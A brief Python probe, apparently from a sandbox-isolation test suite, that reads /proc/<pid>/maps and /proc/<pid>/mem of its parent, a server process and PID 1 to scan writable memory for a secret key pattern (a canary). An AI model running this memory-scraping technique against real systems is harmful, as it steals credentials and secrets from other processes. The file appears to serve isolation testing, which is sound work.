"""Look for the key in the memory of the processes above.

shows: canary
naive: spared (its own memory is enough, see steal_heap)
"""

import os
import re

ANSWER = ""
for pid in {os.getppid(), WORLD["pid"], WORLD["server"], 1} - {os.getpid()}:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb")
    except OSError:
        continue
    for low, high in re.findall(r"^(\w+)-(\w+) rw", maps, re.M):
        try:
            memory.seek(int(low, 16))
            found = re.findall(WORLD["pattern"].encode(), memory.read(int(high, 16) - int(low, 16)))
            ANSWER += repr(found)
        except (OSError, OverflowError, ValueError):
            pass
